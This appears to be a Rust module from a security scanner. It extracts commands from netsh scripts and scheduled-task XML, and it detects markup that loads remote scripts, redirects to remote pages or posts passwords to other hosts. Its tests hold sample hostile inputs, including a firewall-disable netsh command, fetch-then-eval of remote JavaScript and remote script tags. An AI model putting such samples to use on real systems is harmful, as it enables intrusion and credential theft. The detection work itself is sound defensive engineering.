//! Files that hold commands in another form: scripts of netsh, tasks in XML, and documents that load scripts.

use std::sync::LazyLock;

use regex::Regex;

use super::markup::{as_document, without_references};
use crate::format::xml::{Document, Node};

/// The first words of the commands of netsh, after their context.
const VERBS: [&str; 14] = [
    "add",
    "connect",
    "delete",
    "disconnect",
    "dump",
    "export",
    "import",
    "install",
    "offload",
    "renew",
    "reset",
    "set",
    "show",
    "start",
];

static NETSH_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\bnetsh(?:\.exe)?["']?\s[^\n&|;]*(?:\bexec\b|[-/]f\s)"#).expect("the pattern is valid")
});

/// Whether a command lets netsh read commands from a file.
pub(super) fn gives_netsh_a_file(text: &str) -> bool {
    NETSH_FILE.is_match(text)
}

/// The lines of a script of netsh as commands. A line without a verb is the context of those after it.
pub(super) fn netsh_commands(text: &str) -> String {
    let mut context = "";
    let mut commands = String::new();
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')) {
        let verb = line.split_whitespace().position(|word| VERBS.iter().any(|verb| word.eq_ignore_ascii_case(verb)));
        match verb {
            Some(0) => commands.extend(["netsh ", context, " ", line, "\n"]),
            Some(_) => commands.extend(["netsh ", line, "\n"]),
            None => context = line.strip_prefix("pushd ").unwrap_or(line),
        }
    }
    commands
}

/// The commands of a task in XML, each on its own line with its arguments; `None` if the text is no task.
pub(super) fn task_commands(text: &str) -> Option<String> {
    let document = as_document(text).filter(|document| document.contains("Exec"))?;
    let document = Document::read(&document).ok()?;
    let mut commands = String::new();
    let mut nodes: Vec<&Node<'_>> = document.root.children.iter().rev().collect();
    while let Some(node) = nodes.pop() {
        if node.name.eq_ignore_ascii_case("Exec") {
            let part = |name: &str| node.children.iter().find(|child| child.name.eq_ignore_ascii_case(name));
            let words = ["Command", "Arguments"].into_iter().filter_map(part).map(Node::words);
            commands.push_str(&words.collect::<Vec<_>>().join(" "));
            commands.push('\n');
        }
        nodes.extend(node.children.iter().rev());
    }
    (!commands.is_empty()).then_some(commands)
}

/// An element that loads a script, or a page with the rights of a program, from another computer.
static REMOTE_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    const REMOTE: &str = r"(?:https?:|[\\/]{2})";
    const SOURCE: &str = r#"\b(?:src|href|code|codebase)\s*=\s*["']?\s*(?:https?:|[\\/]{2})"#;
    let pattern = format!(
        r#"(?i)<(?:script|applet)\b[^>]*{SOURCE}[^>]*>|<object\b[^>]*\bcodebase\s*=\s*["']?\s*{REMOTE}[^>]*>|<base\b[^>]*{SOURCE}[^>]*>[\s\S]*?<script\b[^>]*\bsrc\b[^>]*>|createelement\s*\(\s*["']script["']\s*\)[\s\S]{{0,300}}?\.src\s*=\s*["'`]{REMOTE}|<i?frame\b[^>]*\bapplication\s*=\s*["']?yes\b[^>]*{SOURCE}[^>]*>|<i?frame\b[^>]*{SOURCE}[^>]*\bapplication\s*=\s*["']?yes\b[^>]*>|<jnlp\b[^>]*{SOURCE}[^>]*>|<\?xml-stylesheet\b[^>]*{SOURCE}[^>]*>|\bimport\s*(?:\(\s*|[\w\s{{}},*]{{0,100}}\bfrom\s+)?["']{REMOTE}|\bfetch\s*\(\s*["'`]{REMOTE}[\s\S]{{0,200}}?\beval\b"#
    );
    Regex::new(&pattern).expect("the pattern is valid")
});

/// An element that shows a page of another computer in the place of its own, or that sends a password to one.
static REMOTE_PAGE: LazyLock<Regex> = LazyLock::new(|| {
    const PATTERN: &str = r#"(?i)<(?:i?frame|embed)\b[^>]*\bsrc\s*=\s*["']?\s*(?:https?:|[\\/]{2})[^>]*>|<object\b[^>]*\bdata\s*=\s*["']?\s*(?:https?:|[\\/]{2})[^>]*>|<meta\b[^>]*\bhttp-equiv\s*=\s*["']?\s*refresh\b[^>]*\burl\s*=\s*["']?\s*(?:https?:|[\\/]{2})[^>]*>|\blocation(?:\.href)?\s*=\s*["'`](?:https?:|[\\/]{2})|\blocation\.(?:replace|assign)\s*\(\s*["'`](?:https?:|[\\/]{2})|<form\b[^>]*\baction\s*=\s*["']?\s*(?:https?:|[\\/]{2})[^>]*>[\s\S]{0,4000}?<input\b[^>]*\btype\s*=\s*["']?password\b"#;
    Regex::new(PATTERN).expect("the pattern is valid")
});

/// The first element of a document that runs what another computer sends, also in a document inside an attribute.
pub(super) fn remote_script(text: &str) -> Option<String> {
    let found = is_document(text).then(|| REMOTE_SCRIPT.find(text))?.map(|found| found.as_str().to_owned());
    found.or_else(|| {
        let inner = Some(without_references(text)).filter(|_| text.contains("srcdoc"))?;
        REMOTE_SCRIPT.find(&inner).map(|found| found.as_str().to_owned())
    })
}

/// The first element of a document by which it shows a page of another computer, or sends a password to one.
pub(super) fn remote_page(text: &str) -> Option<&str> {
    is_document(text).then(|| REMOTE_PAGE.find(text))?.map(|found| found.as_str())
}

/// Whether a text is a page or another document in markup, or a mail that contains one.
fn is_document(text: &str) -> bool {
    const HEADERS: usize = 4 << 10;
    let start = text[..text.floor_char_boundary(HEADERS)].to_ascii_lowercase();
    let is_mail = start.contains("content-type: text/html") || start.contains("content-type: multipart/related");
    text.trim_start_matches(['\u{feff}', ' ', '\r', '\n', '\t']).starts_with('<') || is_mail
}

#[cfg(test)]
mod tests {
    use super::{gives_netsh_a_file, netsh_commands, remote_page, remote_script, task_commands};

    #[test]
    fn scripts_of_netsh_become_commands() {
        assert!(gives_netsh_a_file("NetSh.exe exec a.txt") && gives_netsh_a_file("netsh -f a.txt"));
        assert!(!gives_netsh_a_file("netsh interface set interface x & exec -f"));
        let commands = netsh_commands("# x\nadvfirewall\nset allprofiles state off\n\nwlan delete profile a\n");
        assert_eq!(commands, "netsh advfirewall set allprofiles state off\nnetsh wlan delete profile a\n");
    }

    #[test]
    fn tasks_become_commands() {
        let task = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec><Command>cmd</Command>\
                    <Arguments>/c a &amp; b</Arguments></Exec></Actions></Task>";
        assert_eq!(task_commands(task).unwrap(), "cmd /c a & b\n");
        assert_eq!(task_commands("<Exec/>").unwrap(), "\n");
        assert_eq!(task_commands("Exec"), None);
        assert_eq!(task_commands("<a/>"), None);
    }

    #[test]
    fn scripts_of_other_computers_are_found() {
        for document in [
            "<html><script language=x src=\"http://a.example/a.js\"></script></html>",
            "\n<job><script\nsrc='\\\\a.example\\a\\a.vbs'/></job>",
            "<iframe application=yes src=http://a.example/>",
            "<IFRAME SRC=//a.example/ APPLICATION='yes'>",
            "<svg xmlns='http://www.w3.org/2000/svg'><script href='https://a.example/a.js'/></svg>",
            "<base href=\"https://a.example/\"><p><script src=a.js></script>",
            "<script>var s=document.createElement('script');s.src='https://a.example/a.js'</script>",
            "<object classid=\"clsid:1\" codebase=\"https://a.example/a.cab\"></object>",
            "MIME-Version: 1.0\nContent-Type: text/html\n\n<script src=https://a.example/a.js></script>",
            "<script type='module'>import \"https://a.example/a.js\"</script>",
            "<script type='module'>import { a } from 'https://a.example/a.js'</script>",
            "<script>fetch('https://a.example/a.js').then(r => r.text()).then(eval)</script>",
            "<iframe srcdoc=\"&lt;script src='https://a.example/a.js'&gt;&lt;/script&gt;\"></iframe>",
            "<jnlp codebase=\"https://a.example/\"><resources/></jnlp>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"https://a.example/a.xsl\"?><a/>",
        ] {
            assert!(remote_script(document).is_some(), "{document}");
        }
        for document in [
            "<base href='https://a.example/'><a href=b.html>",
            "<script src=\"a.js\"/>",
            "<object data=\"https://a.example/a.pdf\"></object>",
            "<iframe src=http://a.example>",
            "x <script src=http://a.example>",
        ] {
            assert_eq!(remote_script(document), None, "{document}");
        }
    }

    #[test]
    fn pages_of_other_computers_are_found() {
        for document in [
            "<iframe src=http://a.example>",
            "<frameset><frame src='//a.example/'></frameset>",
            "<object data=\"https://a.example/a.html\"></object>",
            "<meta http-equiv=refresh content=\"0; URL='http://a.example/'\">",
            "<body onload=\"location='https://a.example/'\">",
            "<script>window.location.replace(\"https://a.example/\")</script>",
            "<form action=\"https://a.example/\"><input name=p type=\"password\"></form>",
        ] {
            assert!(remote_page(document).is_some(), "{document}");
        }
        for document in [
            "<a href='https://a.example/'>a</a>",
            "<iframe src=b.html></iframe>",
            "<meta http-equiv=refresh content=30>",
            "<form action=\"https://a.example/\"><input type=search></form>",
            "location = 'https://a.example/'",
        ] {
            assert_eq!(remote_page(document), None, "{document}");
        }
    }
}
